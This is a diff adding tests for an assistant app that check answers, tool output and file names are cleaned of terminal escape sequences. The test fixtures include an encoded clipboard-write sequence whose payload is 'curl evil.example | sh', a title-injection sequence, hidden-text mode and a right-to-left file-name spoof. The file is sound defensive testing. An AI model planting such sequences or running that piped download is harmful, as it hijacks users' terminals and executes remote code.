@@ -162,3 +162,92 @@ def test_local_only_works_in_a_network_namespace_without_interfaces(home: Path, 
                               capture_output=True, text=True, timeout=300)
         assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
     assert "plan.md" in done.stdout  # answered from the indexed folder, with no network at all
+
+
+# terminal escape sequences from outside (issue 18) ---------------------------------------------------
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
+TITLE = "\x1b]0;pwned\x07"  # OSC 0: set the window title
+HIDDEN = "\x1b[8m"  # what follows is invisible
+ATTACKS = (CLIPBOARD, TITLE, HIDDEN, "\x9b8m", "\x1b]0;", "\x1b[8m", "\u202e")
+
+
+def acting(text: str) -> list[str]:
+    """The sequences in `text` a terminal would act on."""
+    return [a for a in ATTACKS if a in text] + (["ESC"] if "\x1b" in text else [])
+
+
+def test_text_from_outside_cannot_drive_the_terminal() -> None:
+    from engine.terminal_text import terminal_line, terminal_text
+
+    answer = f"Hello{CLIPBOARD} wor{HIDDEN}ld{TITLE}!\r\nline two\tok \u202eevil\x9b8m\x00."
+    assert terminal_text(answer) == "Hello world!\nline two\tok evil8m."
+    assert terminal_text("Ünïcode, emoji 🔧, RTL עברית\u200f, lines\nstay") == \
+        "Ünïcode, emoji 🔧, RTL עברית\u200f, lines\nstay"
+    # A sequence split across two streamed pieces: ESC never survives, so neither half acts.
+    assert not acting(terminal_text("Hi \x1b") + terminal_text("]52;c;ZXZpbA==\x07 there"))
+    name = "report\n[1] fake.md\u202etxt.exe\x1b]0;t\x07"
+    assert terminal_line(name) == "report\\n[1] fake.md\\u202etxt.exe\\x1b]0;t\\x07"  # shown, not acted on
+
+
+def test_escape_sequences_reach_the_terminal_from_no_answer_tool_line_or_file_name(home: Path,
+                                                                                   tmp_path: Path) -> None:
+    """A remote answer, a file's text in the 🔧 tool line, and a file name in Sources."""
+    notes = tmp_path / "notes"
+    notes.mkdir()
+    evil_name = f"budget{TITLE}\u202etxt.md"
+    (notes / evil_name).write_text(f"# Garden\n\nThe garden budget is 400 euros.{CLIPBOARD}{HIDDEN} secret\n")
+    assistant(home, "index", str(notes))
+    with FakeOpenAI(words=["The garden", CLIPBOARD, " budget is", HIDDEN, " 400 euros", TITLE, " [1]."]) as server:
+        configure(home, provider(server.url), backends=["fake"], allow_cloud=True, tool_calling="always",
+                  tools=["read_file"])
+        server.then({"tool": "read_file", "arguments": json.dumps({"path": evil_name})}, "ok")
+        done = assistant(home, "ask", "--max-tokens", "64", "What is the garden budget?")
+    assert len(server.requests) >= 2  # tool decisions, then the answer
+    assert "The garden budget is 400 euros [1]." in done.stdout
+    assert "🔧 read_file" in done.stderr and "\\x1b]52;c;" in done.stderr  # the file's text, shown escaped
+    assert "\\u202etxt.md" in done.stdout  # the name in Sources, as it really is
+    assert acting(done.stdout) == [] and acting(done.stderr) == []
+    # The answer is stored as it came: a record, printed only through the same filter.
+    history = assistant(home, "history", "-c", "1")
+    assert "400 euros" in history.stdout and acting(history.stdout) == []
+
+
+async def test_the_chat_app_cleans_answers_sources_and_tool_lines() -> None:
+    """Textual hands escape characters in a widget's text to the terminal as they are."""
+    import io
+    import types
+
+    from rich.console import Console
+    from textual.app import App
+    from textual.widgets import Markdown
+
+    from app.widgets.chat_log import AnswerMessage, SourceLine
+
+    evil = f"Answer {CLIPBOARD} with {HIDDEN}hidden{TITLE} text \u202eok"
+    passage = types.SimpleNamespace(location=f"notes/a{TITLE}\u202e.md:1-2")
+    step = types.SimpleNamespace(call=types.SimpleNamespace(name="read_file"), status="ok", result=evil)
+
+    class Chat(App):
+        def compose(self):
+            yield AnswerMessage(evil, id="reopened")  # a stored answer, shown again
+            yield AnswerMessage("", id="streamed")
+            yield SourceLine(types.SimpleNamespace(passage=passage, number=1, cited=True))
+
+    app = Chat()
+    async with app.run_test(size=(160, 40)) as pilot:
+        streamed = app.query_one("#streamed", AnswerMessage)
+        stream = Markdown.get_stream(streamed.markdown)  # as the chat screen streams an answer
+        for piece in ("Streamed ", CLIPBOARD, "answer", HIDDEN, TITLE):
+            await stream.write(piece)
+        await stream.stop()
+        streamed.tool_steps = (step,)
+        streamed.refresh_footer()
+        await pilot.pause()
+        # What the app writes to the terminal: the whole screen, rendered as its driver does.
+        out = io.StringIO()
+        Console(file=out, force_terminal=True, color_system="truecolor", width=160).print(
+            app.screen._compositor.render_update(full=True), end="")
+        screen = out.getvalue()
+    assert "Answer" in screen and "Streamed" in screen and "notes/a" in screen
+    assert [a for a in ATTACKS if a in screen] == []
